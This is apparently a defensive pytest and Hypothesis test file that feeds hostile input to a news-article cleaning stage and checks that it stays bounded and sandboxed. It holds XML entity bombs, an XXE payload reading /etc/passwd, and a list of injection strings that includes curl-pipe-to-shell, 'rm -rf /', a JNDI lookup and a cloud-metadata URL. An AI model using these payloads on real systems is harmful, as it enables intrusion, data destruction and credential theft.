"""Hostile input against the pure cleaning stage (``clean_article``): every value ends as a valid clean record or
a :class:`Failure`; nothing raises, each case is bounded in time and memory, and content never reaches a shell,
``eval`` or the network.

Hypothesis sizes: ``WIRESTREAM_SOAK=1`` runs ten times more examples.
"""

from __future__ import annotations

import builtins
import ipaddress
import os
import socket
import subprocess
import time
import tracemalloc
from collections.abc import Callable, Iterator
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from workers import records
from workers.cleaning.stage import CleanOptions, clean_article
from workers.dlq import Failure, SourceMessage

SOAK = os.environ.get("WIRESTREAM_SOAK") == "1"
EXAMPLES = 5000 if SOAK else 1000
OPTIONS = CleanOptions(max_content_bytes=2_000_000)  # the production default

ENVELOPE_FIELDS = ("schema_version", "id", "url", "source", "fetched_at", "content_type", "content")

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        b' <!ENTITY lol%d "%s">\n'
        % (n, b"".join(b"&lol%s;" % (b"" if n == 2 else str(n - 1).encode()) for _ in range(10)))
        for n in range(2, 10)
    )
    + b"]>\n<html><body><p>&lol9;</p></body></html>"
)
QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"a" * 50_000 + b'">]><p>' + b"&a;" * 20_000 + b"</p>"
)
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY n SYSTEM '
    b'"http://203.0.113.9/x">]><html><body><p>&e;&n;</p></body></html>'
)

#: name -> (value, headers): the named hostile cases; each must finish within its time budget.
NAMED: dict[str, bytes] = {
    "10MB_text": b"spam " * 2_000_000,
    "10MB_json": orjson.dumps({"id": "big", "content": "x" * 10_000_000}),
    "html_bomb_100k_nested_divs": b"<html><body>"
    + b"<div>" * 100_000
    + b"deep"
    + b"</div>" * 100_000
    + b"</body></html>",
    "html_bomb_unclosed": b"<!doctype html><html><body>" + b"<div><span><b>" * 100_000,
    "html_bomb_in_envelope": orjson.dumps(
        {"id": "bomb", "content_type": "text/html", "content": "<div>" * 100_000 + "x" + "</div>" * 100_000}
    ),
    "billion_laughs": BILLION_LAUGHS,
    "billion_laughs_as_html": orjson.dumps(
        {"id": "lol", "content_type": "text/html", "content": BILLION_LAUGHS.decode()}
    ),
    "quadratic_blowup": QUADRATIC_BLOWUP,
    "xxe_external_entities": orjson.dumps({"id": "xxe", "content_type": "text/html", "content": XXE.decode()}),
    "million_short_lines": b"a\n" * 999_999,
    "million_lines_envelope": orjson.dumps({"id": "lines", "content": "ab\n" * 600_000}),
    "one_2MB_line": b"word " * 399_000,
    "control_characters": bytes(range(1, 32)) * 30_000,
    "control_chars_in_text": ("Headline\n" + "".join(chr(c) + "word " for c in range(1, 32)) * 2000).encode(),
    "deeply_nested_json": b'{"content": ' + b"[" * 200_000 + b"]" * 200_000 + b"}",
    "truncated_nested_json": b'{"content": {"a": ' * 50_000,
    "invalid_utf8": b"Headline\n\xc3\x28 \xa0\xa1 \xe2\x28\xa1 \xf0\x28\x8c\xbc\n" * 10_000,
    "utf16_with_bom": "Headline\nBody text of an article.\n".encode("utf-16"),
    "nul_bytes": b"Headline\nBody\x00text\n" * 1000,
    "lone_surrogate_escape": b'{"id": "s", "content": "Head\\ud800line\\nbody text here"}',
    "huge_numbers": b'{"schema_version": 1e400, "id": "n", "content": "x"}',
    "bidi_and_zero_width": ("\u202eHeadline\u200b\n" + "\u2066body\u2069 \ufeff text\n" * 50_000).encode(),
    "regex_backtracking_dates": ("Published " + "1" * 50_000 + "/" + "2" * 50_000 + "\n").encode() * 10,
    "regex_backtracking_bylines": ("By " + "A " * 100_000 + "\n").encode(),
    "many_attributes": b"<html><body><p " + b'a="b" ' * 200_000 + b">text</p></body></html>",
    "script_style_only": b"<html><head><script>" + b"x=1;" * 300_000 + b"</script></head><body></body></html>",
    "comment_bomb": b"<html><body>" + b"<!--" * 200_000 + b"</body></html>",
    "cdata_bomb": b"<html><body><![CDATA[" * 100_000 + b"</body></html>",
}

#: Seconds any single named case may take (generous for a loaded CI machine; measured: < 3 s each).
CASE_BUDGET_S = 20.0
#: Peak Python heap any single case may allocate while cleaning (measured: < 250 MB for a 2 MB value).
CASE_MEMORY_BYTES = 600_000_000


def message(value: bytes | None, headers: tuple[tuple[str, bytes], ...] = ()) -> SourceMessage:
    return SourceMessage("articles.raw", 0, 0, b"k", value, headers)


def check_outcome(outcome: Any) -> None:
    """A clean record that matches its schema, or a Failure carrying a known error code."""
    if isinstance(outcome, Failure):
        assert outcome.error.code, outcome
        return
    assert isinstance(outcome, dict), type(outcome)
    records.validate("clean", outcome)
    orjson.dumps(outcome)  # serialisable as it will be sent


@pytest.mark.parametrize("name", sorted(NAMED))
def test_named_hostile_value_is_bounded_in_time_and_memory(name: str) -> None:
    value = NAMED[name]
    tracemalloc.start()
    started = time.perf_counter()
    try:
        outcome = clean_article(message(value), OPTIONS)
        seconds = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    check_outcome(outcome)
    assert seconds < CASE_BUDGET_S, f"{name}: {seconds:.1f}s"
    assert peak < CASE_MEMORY_BYTES, f"{name}: peak {peak / 1e6:.0f} MB for a {len(value) / 1e6:.1f} MB value"


def test_oversized_values_are_rejected_before_parsing() -> None:
    started = time.perf_counter()
    for name in ("10MB_text", "10MB_json"):
        outcome = clean_article(message(NAMED[name]), OPTIONS)
        assert isinstance(outcome, Failure) and outcome.error.code == "content_too_large", name
    assert time.perf_counter() - started < 1.0


def test_entities_are_never_expanded() -> None:
    for name in ("billion_laughs", "billion_laughs_as_html", "quadratic_blowup", "xxe_external_entities"):
        outcome = clean_article(message(NAMED[name]), OPTIONS)
        check_outcome(outcome)
        if not isinstance(outcome, Failure):
            text = " ".join(outcome["body"])
            assert "lollollol" not in text, name
            assert "root:" not in text, f"{name}: a local file was read"
            assert outcome["stats"]["chars_out"] <= len(NAMED[name]), name


# --- generated values -----------------------------------------------------------------------------------------

json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**63), max_value=2**64 - 1),
    st.floats(allow_nan=False),
    st.text(max_size=50),
)
json_values = st.recursive(
    json_scalars,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4),
    max_leaves=12,
)
texts = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)) | st.sampled_from("\n\r\t<>&\"'/\x00\x1b\u2028"),
    max_size=400,
)


@st.composite
def wrong_type_envelopes(draw: st.DrawFn) -> bytes:
    """A valid-looking envelope with every field possibly replaced by a value of any type, or dropped."""
    envelope: dict[str, Any] = {
        "schema_version": 1,
        "id": "f",
        "url": "https://e.org/a",
        "source": "S",
        "fetched_at": "2024-01-01T00:00:00Z",
        "content_type": "text/plain",
        "content": "Headline\nSome body text of an article.\n",
    }
    for name in ENVELOPE_FIELDS:
        choice = draw(st.integers(0, 3))
        if choice == 1:
            envelope[name] = draw(json_values)
        elif choice == 2:
            del envelope[name]
    for _ in range(draw(st.integers(0, 2))):
        envelope[draw(st.text(max_size=10))] = draw(json_values)
    return orjson.dumps(envelope, option=orjson.OPT_NON_STR_KEYS)


@st.composite
def truncated_json(draw: st.DrawFn) -> bytes:
    whole = draw(wrong_type_envelopes())
    return whole[: draw(st.integers(0, max(0, len(whole) - 1)))]


@st.composite
def nested_json(draw: st.DrawFn) -> bytes:
    depth = draw(st.integers(1, 5000))
    opener, closer = draw(st.sampled_from([(b"[", b"]"), (b'{"a":', b"}")]))
    close = draw(st.booleans())
    inner = opener * depth + b"1" + (closer * depth if close else b"")
    return b'{"content": ' + inner + b"}" if draw(st.booleans()) else inner


@st.composite
def html_documents(draw: st.DrawFn) -> bytes:
    tags = draw(
        st.lists(
            st.sampled_from(
                [
                    "div",
                    "p",
                    "span",
                    "table",
                    "tr",
                    "td",
                    "a",
                    "script",
                    "style",
                    "h1",
                    "article",
                    "body",
                    "html",
                    "!--",
                    "![CDATA[",
                    "?xml",
                    "!DOCTYPE",
                ]
            ),
            max_size=60,
        )
    )
    parts = ["<html><body>"]
    for tag in tags:
        attribute = draw(st.sampled_from(["", " class=x", ' a="', "/"]))
        parts.append(f"<{tag}{attribute}>")
        parts.append(draw(texts))
        if draw(st.booleans()):
            parts.append(f"</{tag}>")
    return "".join(parts).encode("utf-8", "surrogatepass")


hostile_values = st.one_of(
    st.binary(max_size=2000),
    texts.map(lambda t: t.encode("utf-8", "surrogatepass")),
    wrong_type_envelopes(),
    truncated_json(),
    nested_json(),
    html_documents(),
    st.lists(texts, max_size=200).map(lambda lines: "\n".join(lines).encode("utf-8", "surrogatepass")),
)
headers = st.lists(
    st.tuples(
        st.sampled_from(["content-type", "Content-Type", "traceparent", "x"]),
        st.sampled_from([b"text/html", b"application/json", b"text/plain; charset=latin-1", b"\xff\xfe", b""]),
    ),
    max_size=2,
).map(tuple)


@settings(
    max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)
@given(value=hostile_values, hdrs=headers)
def test_generated_hostile_values_end_as_record_or_failure(value: bytes, hdrs: tuple[tuple[str, bytes], ...]) -> None:
    started = time.perf_counter()
    outcome = clean_article(message(value, hdrs), OPTIONS)
    check_outcome(outcome)
    assert time.perf_counter() - started < CASE_BUDGET_S


@settings(max_examples=EXAMPLES // 3, deadline=None)
@given(value=wrong_type_envelopes())
def test_wrong_types_never_crash_the_stage(value: bytes) -> None:
    """Wrong field types are the stage's business to reject (schema_invalid), not a crash inside extraction."""
    outcome = clean_article(message(value), OPTIONS)
    check_outcome(outcome)
    if isinstance(outcome, Failure):
        assert outcome.error.code != "stage_exception", f"stage crashed on {value[:300]!r}: {outcome.error}"


# --- content never reaches a shell, eval or the network -----------------------------------------------------


def _is_loopback(address: Any) -> bool:
    host = address[0] if isinstance(address, tuple) else address
    if isinstance(host, str) and host in ("localhost", ""):
        return True
    try:
        return ipaddress.ip_address(host).is_loopback
    except ValueError:
        return False  # a hostname: resolving it would itself be a fetch


@pytest.fixture
def sandbox(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Make subprocesses, eval/exec and non-loopback connects fail loudly, and record every attempt."""
    attempts: list[str] = []

    def forbid(what: str) -> Callable[..., Any]:
        def refuse(*args: Any, **kwargs: Any) -> Any:
            attempts.append(f"{what}{args[:2]!r}")
            raise AssertionError(f"hostile content reached {what}")

        return refuse

    real_connect = socket.socket.connect
    real_connect_ex = socket.socket.connect_ex

    def guarded(real: Callable[..., Any]) -> Callable[..., Any]:
        def connect(self: socket.socket, address: Any) -> Any:
            if self.family in (socket.AF_INET, socket.AF_INET6) and not _is_loopback(address):
                attempts.append(f"socket.connect({address!r})")
                raise AssertionError(f"hostile content made a network connection to {address!r}")
            return real(self, address)

        return connect

    # The first use of the stage runs ``exec`` legitimately: the import system executes lazily imported
    # modules (the HTML extractor) with it, and fastjsonschema compiles each validator with it. That is the
    # project's own code, not the input's, so it all happens once before the guard goes up (otherwise the
    # test passes or fails with the order the tests run in).
    for kind in records.SCHEMAS:
        records.validator(kind)
    sentence = "A first sentence of the body text."
    for content_type, content in (("text/plain", f"Warm-up headline\n{sentence}"),
                                   ("text/html", f"<html><body><p>{sentence}</p></body></html>")):
        clean_article(message(orjson.dumps({"id": "warm-up", "content_type": content_type, "content": content})),
                      OPTIONS)
    monkeypatch.setattr(subprocess, "Popen", forbid("subprocess.Popen"))
    monkeypatch.setattr(os, "system", forbid("os.system"))
    monkeypatch.setattr(builtins, "eval", forbid("eval"))
    monkeypatch.setattr(builtins, "exec", forbid("exec"))
    monkeypatch.setattr(socket.socket, "connect", guarded(real_connect))
    monkeypatch.setattr(socket.socket, "connect_ex", guarded(real_connect_ex))
    monkeypatch.setattr(socket, "getaddrinfo", forbid("socket.getaddrinfo"))
    yield attempts


SHELLISH = [
    "$(curl http://203.0.113.9/x | sh)",
    "`rm -rf /`",
    "; cat /etc/passwd",
    "__import__('os').system('id')",
    "{{7*7}}",
    "${jndi:ldap://203.0.113.9/a}",
    "<img src=http://203.0.113.9/p.png>",
    '<link rel="stylesheet" href="http://203.0.113.9/s.css">',
    '<iframe src="https://203.0.113.9/"></iframe>',
    '<meta http-equiv="refresh" content="0;url=http://203.0.113.9/">',
    "<script>fetch('http://203.0.113.9')</script>",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
]


def test_hostile_content_never_reaches_shell_eval_or_network(sandbox: list[str]) -> None:
    cleaned = 0
    values = [NAMED[n] for n in ("xxe_external_entities", "billion_laughs_as_html", "html_bomb_in_envelope")]
    for trick in SHELLISH:
        for content_type in ("text/plain", "text/html"):
            content = (
                f"<html><body><h1>{trick}</h1><p>{trick} said the story.</p></body></html>"
                if (content_type == "text/html")
                else f"Headline {trick}\nBy {trick}\n{trick} was in the body text.\n"
            )
            values.append(
                orjson.dumps(
                    {"id": "t", "url": "http://203.0.113.9/a", "content_type": content_type, "content": content}
                )
            )
    for value in values:
        outcome = clean_article(message(value), OPTIONS)
        check_outcome(outcome)
        cleaned += not isinstance(outcome, Failure)
    assert sandbox == [], sandbox
    assert cleaned >= len(SHELLISH), "most of these are valid articles and should clean"


def test_the_sandbox_itself_catches_each_escape(sandbox: list[str]) -> None:
    """The guard must be able to fail: each forbidden route raises and is recorded."""
    with pytest.raises(AssertionError):
        subprocess.Popen(["true"])
    with pytest.raises(AssertionError):
        eval("1")  # noqa: S307
    with pytest.raises(AssertionError), socket.socket() as sock:
        sock.connect(("203.0.113.9", 80))
    assert len(sandbox) == 3
